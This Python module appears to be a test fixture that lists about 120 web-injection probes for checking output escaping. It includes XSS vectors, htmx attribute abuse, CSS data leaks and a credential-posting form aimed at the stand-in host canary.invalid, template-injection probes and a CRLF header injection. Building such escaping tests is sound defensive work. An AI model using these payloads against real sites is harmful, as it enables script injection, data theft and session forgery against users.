"""120 texts that would like to be something else: script, markup, an htmx attribute, a style, an address, a template.

Each element that one of them would make carries `data-canary`; each address leads to a host that does not exist.
"""

from __future__ import annotations

HOST = "canary.invalid"
_AWAY = f"//{HOST}"

_EVENTS = (
    "img src=x onerror=alert(1)", "svg onload=alert(2)", "body onload=alert(3)", "video src=x onerror=alert(4)",
    "audio src=x onerror=alert(5)", "input autofocus onfocus=alert(6)", "select autofocus onfocus=alert(7)",
    "textarea autofocus onfocus=alert(8)", "details open ontoggle=alert(9)", "marquee onstart=alert(10)",
    "div onpointerover=alert(11) style=position:fixed;inset:0", "a href=# onclick=alert(12)", "button onclick=alert(13)",
    "style onload=alert(14)", "link rel=stylesheet href=x onerror=alert(15)", "object data=x onerror=alert(16)",
    "embed src=x onload=alert(17)", "iframe onload=alert(18)", "form onsubmit=alert(19)", "p onanimationstart=alert(20)",
    "x contenteditable onbeforeinput=alert(21)", "dialog open onclose=alert(22)", "div popover onbeforetoggle=alert(23)",
    "p tabindex=0 autofocus onfocusin=alert(24)",
)  # fmt: skip
_SCRIPTS = (
    "<script data-canary>alert(30)</script>", "</title><script data-canary>alert(31)</script>",
    "</textarea><script data-canary>alert(32)</script>", "</option></select><script data-canary>alert(33)</script>",
    "--><script data-canary>alert(34)</script>", "]]><script data-canary>alert(35)</script>",
    f"<script data-canary src={_AWAY}/x.js></script>", "<script data-canary type=module>alert(36)</script>",
    "<scr<script>ipt data-canary>alert(37)</scr</script>ipt>", "<SCRIPT data-canary>alert(38)</SCRIPT>",
    "<script/data-canary>alert(39)</script>", "<script data-canary\n>alert(40)</script\n>",
    "<noscript><p title=\"</noscript><script data-canary>alert(41)</script>\">",
    "<template data-canary><script>alert(42)</script></template>",
    "<div data-canary><template shadowrootmode=open><script>alert(43)</script></template></div>",
)  # fmt: skip
_BREAKOUTS = (
    "\" onmouseover=alert(50) autofocus onfocus=alert(50) data-canary=\"", "' onfocus=alert(51) autofocus data-canary='",
    "\"><img data-canary src=x onerror=alert(52)>", "'><svg data-canary onload=alert(53)>", "` onfocus=alert(54) data-canary=`",
    "\" style=\"background:url(//canary.invalid/b)\" data-canary=\"", "x\" hx-get=\"/boom/\" hx-trigger=\"load\" data-canary=\"",
    "&quot;&gt;&lt;img data-canary src=x onerror=alert(55)&gt;", "&#60;img data-canary src=x onerror=alert(56)&#62;",
    "\\u003cimg data-canary src=x onerror=alert(57)\\u003e", "%3Cimg%20data-canary%20src%3Dx%20onerror%3Dalert(58)%3E",
    "＜img data-canary src=x onerror=alert(59)＞", "<img data-canary src=\"x`<script>alert(60)</script>\" onerror=alert(60)>",
)  # fmt: skip
_MARKUP = (
    "<svg data-canary><script>alert(70)</script></svg>", "<svg data-canary><a xlink:href=javascript:alert(71)><text>x</text></a></svg>",
    "<svg data-canary><animate onbegin=alert(72) attributeName=x dur=1s>",
    f"<svg data-canary><image href={_AWAY}/i.png /></svg>", f"<svg data-canary><use href={_AWAY}/u.svg#x /></svg>",
    "<svg data-canary><foreignObject><iframe srcdoc='<script>alert(73)</script>'></iframe></foreignObject></svg>",
    "<math data-canary><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(74)&gt;\">",
    "<math data-canary href=javascript:alert(75)>CLICK</math>", "<iframe data-canary srcdoc='<script>parent.alert(76)</script>'></iframe>",
    f"<iframe data-canary src={_AWAY}/f></iframe>", f"<object data-canary data={_AWAY}/o></object>", f"<embed data-canary src={_AWAY}/e>",
    f"<base data-canary href={_AWAY}/>", f"<meta data-canary http-equiv=refresh content='0;url={_AWAY}/m'>",
    f"<link data-canary rel=stylesheet href={_AWAY}/l.css>", f"<link data-canary rel=prefetch href={_AWAY}/p>",
    f"<form data-canary action={_AWAY}/form><input name=csrfmiddlewaretoken><button autofocus>Sign in</button></form>",
    f"<img data-canary src={_AWAY}/pixel.gif>", f"<video data-canary poster={_AWAY}/poster.png></video>",
    f"<input data-canary type=image src={_AWAY}/input.png>", "<plaintext data-canary>", "<!-- data-canary", "</main></body></html>",
    "<xmp data-canary>", "<frameset data-canary onload=alert(77)>",
)  # fmt: skip
_STYLES = (
    f"<style data-canary>@import '{_AWAY}/s.css';</style>",
    "<style data-canary>*{display:none!important}</style>",
    f'<div data-canary style="background:url({_AWAY}/bg.png)">x</div>',
    f"<style data-canary>@font-face{{font-family:x;src:url({_AWAY}/f.woff)}}*{{font-family:x}}</style>",
    f"</style><style data-canary>input[value^=a]{{background:url({_AWAY}/leak)}}</style>",
)
_HTMX = (
    "<div data-canary hx-get=/boom/ hx-trigger=load>x</div>", "<div data-canary data-hx-get=/boom/ data-hx-trigger=load>x</div>",
    f"<div data-canary hx-get=https:{_AWAY}/boom hx-trigger=load>x</div>", "<div data-canary hx-post=/logout/ hx-trigger=load>x</div>",
    "<div data-canary hx-on:click=alert(80) autofocus tabindex=0>x</div>", "<div data-canary hx-on::load=alert(81)>x</div>",
    "<div data-canary hx-on=\"load -> alert(82)\">x</div>", "<div data-canary hx-get=/boom/ hx-trigger='load[alert(83)]'>x</div>",
    "<div data-canary hx-get=/boom/ hx-trigger=load hx-vals='js:{x:alert(84)}'>x</div>",
    "<div data-canary hx-get=/boom/ hx-trigger=load hx-headers='js:{x:alert(85)}'>x</div>",
    "<div data-canary id=messages hx-swap-oob=innerHTML>forged</div>", "<div data-canary id=main hx-swap-oob=true>forged</div>",
    "<template data-canary hx-swap-oob=true><div id=card>forged</div></template>",
    "<hx-partial data-canary hx-target=body>forged</hx-partial>", "<a data-canary href=/boom/ hx-boost=true autofocus>x</a>",
)  # fmt: skip
_ADDRESSES = (
    "javascript:alert(90)", "JaVaScRiPt:alert(91)", "java\tscript:alert(92)", "&#106;avascript:alert(93)",
    "data:text/html,<script data-canary>alert(94)</script>", "vbscript:msgbox(95)", f"{_AWAY}/path", f"\\\\{HOST}\\share",
    f"![x](http:{_AWAY}/md.png)", "[click](javascript:alert(96))", f"<http:{_AWAY}/auto>", "[x]: javascript:alert(97)",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7|add:7 }}", "{{7*7}}", "{% load static %}", "{% include 'base.html' %}", "{% autoescape off %}<b data-canary>x</b>",
    "${7*7}", "<%= 7*7 %>", "#{7*7}", "%(password)s {0.__class__} %s", "{{ request.user.password }}",
)  # fmt: skip
_LINES = ("x\r\nSet-Cookie: canary=1\r\n\r\n<b data-canary>x</b>",)

PAYLOADS = (
    *(f"<{event} data-canary>" for event in _EVENTS),
    *_SCRIPTS, *_BREAKOUTS, *_MARKUP, *_STYLES, *_HTMX, *_ADDRESSES, *_TEMPLATES, *_LINES,
)  # fmt: skip


def fitting(length: int | None) -> list[str]:
    """Those that a field of this length holds whole; every field holds some."""
    return [text for text in PAYLOADS if length is None or len(text) <= length]
